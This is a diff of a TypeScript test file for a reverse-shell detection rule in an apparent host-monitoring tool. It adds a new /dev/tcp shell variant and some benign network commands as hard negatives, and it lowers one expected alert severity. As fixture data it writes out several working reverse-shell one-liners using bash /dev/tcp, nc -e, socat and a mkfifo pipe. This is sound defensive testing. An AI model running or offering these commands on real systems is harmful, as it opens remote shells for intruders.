@@ -301,6 +301,7 @@ describe('the issue-12 rule pack on the real store', () => {
   it('reverse shells by their command line, critical once they connect; a shell connecting by itself', async () => {
     const shapes: [string, string[]][] = [
       ['/usr/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1']],
+      ['/usr/bin/sh', ['sh', '-c', 'exec 5<>/dev/tcp/127.0.0.1/4444; /bin/sh <&5 >&5 2>&5']],
       ['/usr/bin/nc.traditional', ['nc', '127.0.0.1', '4444', '-e', '/bin/sh']],
       ['/usr/bin/socat', ['socat', 'tcp-connect:127.0.0.1:4444', 'exec:/bin/sh,pty,stderr']],
       ['/usr/bin/sh', ['sh', '-c', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f']],
@@ -324,14 +325,16 @@ describe('the issue-12 rule pack on the real store', () => {
     t.run('/usr/bin/bash', ['bash', 'sync.sh'], (pid) => { t.connect('127.0.0.1', 4444, pid); });
     await commit(t.done());
     expect(alertsOf(t.root).filter((a) => a.rule === 'reverse_shell').map((a) => `${a.severity} ${a.summary}`)).toEqual([
-      expect.stringMatching(/^high ruleagent: a shell \(bash sync\.sh\) opened a connection to 127\.0\.0\.1:4444 itself/),
+      expect.stringMatching(/^medium ruleagent: a shell \(bash sync\.sh\) opened a connection to 127\.0\.0\.1:4444 itself/),
     ]);
     // hard negatives: nc probing a port, python doing HTTP, a shell script reading /dev/tcp output without a shell on it
     const u = warmUp(new Script());
     u.run('/usr/bin/nc.openbsd', ['nc', '-z', '-v', '127.0.0.1', '8443']);
     u.run('/usr/bin/python3', ['python3', '-c', 'import urllib.request; print(urllib.request.urlopen("http://127.0.0.1:8443").status)']);
     u.run('/usr/bin/python3', ['python3', '-m', 'http.server', '8000']);
-    u.run('/usr/bin/bash', ['bash', '-c', 'git status && npm test']);
+    u.run('/usr/bin/bash', ['bash', '-c', 'git status && npm test 2>&1 | tail -5']);
+    u.run('/usr/bin/bash', ['bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/8443; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3']); // HTTP by hand
+    u.run('/usr/bin/bash', ['bash', '-c', '(exec 3<>/dev/tcp/127.0.0.1/8443) 2>/dev/null && echo open']); // a port probe
     await commit(u.done());
     expect(rulesOf(u.root)).toEqual([]);
   });
